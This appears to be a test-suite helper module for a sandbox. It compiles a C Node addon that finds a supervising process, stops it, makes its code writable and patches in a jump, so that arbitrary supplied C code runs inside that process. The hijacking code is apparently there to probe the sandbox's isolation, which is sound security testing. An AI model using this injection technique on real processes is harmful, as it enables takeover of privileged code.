// For attacks on the process that keeps the memory of a Node which waited for its program (guest/javascript/ending.c).
'use strict';
const { execFileSync } = require('child_process');
const fs = require('fs');

// The keeper's number; 0 in a cold cell, which has none.
exports.find = () => {
  const others = fs.readdirSync('/proc').map(Number).filter((pid) => pid > 1 && pid !== process.pid);
  return others.find((pid) => fs.readFileSync(`/proc/${pid}/maps`, 'utf8').includes('ending.node')) ?? 0;
};

const kSource = `
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile long answers[4];
static volatile int done;
static char stack[65536] __attribute__((aligned(16)));

// Not the C library's: errno and the like belong to the program's thread.
static long call(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return result;
}

static int taken(void* nothing) {
  BODY
  while (1) call(SYS_sched_yield, 0, 0, 0);
}

// Where it sleeps: mov $SYS_pause, %eax; syscall. It wakes up before the second one, and finds a jump there, onto a
// stack of its own. The rest stays, for the program to end by.
static void overwrite(unsigned long begin, unsigned long end) {
  const unsigned long top = (unsigned long)(stack + sizeof stack - 8);
  const unsigned long target = (unsigned long)taken;
  unsigned char* sleeps = memmem((void*)begin, end - begin, "\\xb8\\x22\\0\\0\\0\\x0f\\x05", 7);
  if (sleeps == NULL || mprotect((void*)begin, end - begin, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) _exit(4);
  unsigned char* jump = sleeps + 5;
  memcpy(jump, "\\x48\\xbc", 2);
  memcpy(jump + 2, &top, 8);
  memcpy(jump + 10, "\\x48\\xb8", 2);
  memcpy(jump + 12, &target, 8);
  memcpy(jump + 20, "\\xff\\xe0", 2);
}

void* napi_register_module_v1(void* env, void* exports) {
  const int keeper = KEEPER;
  if (keeper > 0) {
    kill(keeper, SIGSTOP);
    FILE* maps = fopen("/proc/self/maps", "r");
    char line[4096];
    while (fgets(line, sizeof line, maps) != NULL) {
      unsigned long begin, end;
      char mode[8];
      if (sscanf(line, "%lx-%lx %7s", &begin, &end, mode) == 3 && mode[2] == 'x' && strstr(line, "ending.node"))
        overwrite(begin, end);
    }
    fclose(maps);
    kill(keeper, SIGCONT);
  } else {
    clone(taken, stack + sizeof stack, CLONE_VM | CLONE_PARENT | SIGCHLD, NULL);
  }
  for (int turn = 0; turn < 100000 && !done; ++turn) usleep(20);
  FILE* file = fopen("/work/answers", "w");
  fprintf(file, "[%d, %ld, %ld, %ld, %ld]", done, answers[0], answers[1], answers[2], answers[3]);
  fclose(file);
  return exports;
}
`;

// Makes the keeper run `body`: C code that has call(number, a, b, c), may fill answers[0] to [3], and sets done. Where
// there is none, a process like it. Returns the answers; throws if the code did not run.
exports.takeOver = (body) => {
  fs.writeFileSync('hijack.c', kSource.replace('BODY', () => body).replace('KEEPER', String(exports.find())));
  execFileSync('gcc', ['-w', '-shared', '-fPIC', '-O1', '-fcf-protection=none', '-o', 'hijack.node', 'hijack.c']);
  process.dlopen({ exports: {} }, '/work/hijack.node');
  const [done, ...answers] = JSON.parse(fs.readFileSync('answers', 'utf8'));
  if (!done) throw new Error('the code did not run');
  return answers;
};
